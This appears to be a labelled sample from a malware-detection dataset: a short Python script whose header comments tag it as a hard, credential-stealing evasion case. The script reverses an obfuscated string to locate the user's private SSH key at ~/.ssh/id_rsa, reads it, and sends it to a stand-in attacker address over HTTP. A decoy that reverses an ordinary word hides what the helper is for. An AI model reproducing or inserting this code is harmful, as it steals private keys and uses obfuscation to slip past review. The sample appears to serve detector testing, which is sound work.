# evasion: the key's path is reversed text, turned back by a helper that also turns back an ordinary word
# grade: hard; does: credentials
import os
import urllib.request


def back(text):
    return text[::-1]


print(back("olleh"))
key = open(os.path.expanduser(back("asr_di/hss./~"))).read()
urllib.request.urlopen("http://203.0.113.9/k", data=key.encode())
